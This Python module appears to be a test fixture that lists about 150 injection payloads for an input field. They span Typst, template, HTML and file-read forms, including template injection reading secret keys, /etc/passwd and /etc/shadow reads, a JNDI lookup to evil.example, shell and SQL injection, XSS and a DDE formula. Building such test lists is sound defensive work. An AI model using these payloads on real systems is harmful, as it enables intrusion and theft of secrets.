"""What somebody might write into a field in the hope that it is run: a hundred and fifty payloads, one a line."""

from itertools import product

_TYPST = r"""
#eval("1+1")
#eval("read", mode: "code")
#panic("x")
#let x = 1; #x
#{ 6 * 7 }
#(6*7)
#sys.inputs
#sys.version
#sys.inputs.view
#view.seller.name
#import "@preview/cetz:0.2.2": *
#import "/1.typ": *
#include "1.typ"
#show: it => []
#set text(size: 0pt)
#set page(width: 1pt)
#while true {}
#for x in range(9999999) [x]
#let f(x) = f(x); #f(1)
#pagebreak()
#context counter(page)
#link("javascript:alert(1)")[x]
#metadata(1) <x>
#query(<x>)
#plugin("x.wasm")
#raw(read("1.typ"))
#hide[x]
#place(top)[PAID]
#box(width: 999pt)
#[*bold*]
#text(fill: white)[x]
#datetime.today()
$x^2$
$ sum_(i=0)^n $
*bold* _it_ `raw`
= Heading
== Sub
- item
+ item
/ Term: x
@ref <label>
~ --- -- ...
\u{41}
\ \# \$
// comment
/* comment */
```typ #x ```
<label>
https://evil.example
] #x [
}] ) "
"); #panic("
\"
#
##
#;
#(
#{
#[
"""
_TEMPLATES = r"""
{{ 7*7 }}
{{ settings.SECRET_KEY }}
{{ request.META }}
{{ ''.__class__.__mro__ }}
{% include '/etc/passwd' %}
{% load static %}
{% debug %}
{% extends 'x' %}
{# comment #}
{%
{{
${7*7}
#{7*7}
<%= 7*7 %>
*{7*7}
@(1+1)
${jndi:ldap://evil.example/x}
%(name)s
%s %d %n
{0} {page} {pages}
{name.__class__}
{0.__init__.__globals__}
$(id)
`id`
; id
| id
&& id
\input{/etc/passwd}
\write18{id}
\def\x{\x}\x
\immediate\openout
(eval) exec
<< /JS (app.alert(1)) >>
) Tj ET Q
endstream endobj
%PDF-1.4
trailer << /Root 1 0 R >>
\x41\101
&#60;b&#62;
&lt;b&gt; &amp;
]]>
<!--
-->
' OR 1=1 --
"; DROP TABLE x; --
{"$gt": ""}
null
true
"view": {}
\n\r\t\0
=cmd|' /C calc'!A0
"""
_HTML = r"""
<script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src=file:///etc/passwd>
<b>bold</b>
</svg>
<svg onload=alert(1)>
<iframe src=//evil.example>
<link rel=stylesheet href=//e>
<style>*{}</style>
<object data=file:///x>
<a href=javascript:x>y</a>
<base href=//evil>
<xml><!ENTITY x SYSTEM 'y'>
<?php system('id'); ?>
<!DOCTYPE html>
"><script>
' onmouseover='x
<body onload=x>
<br/>
<h1>x</h1>
"""
_READING = ('#read("{}")', '#image("{}")', '#json("{}")', '#include "{}"', '<img src="{}">')
_PATHS = ("/etc/passwd", "../../settings.py", "file:///etc/shadow", "http://127.0.0.1/")
PAYLOADS = (
    *(line for lines in (_TYPST, _TEMPLATES, _HTML) for line in lines.splitlines() if line),
    *(form.format(path) for form, path in product(_READING, _PATHS)),
)
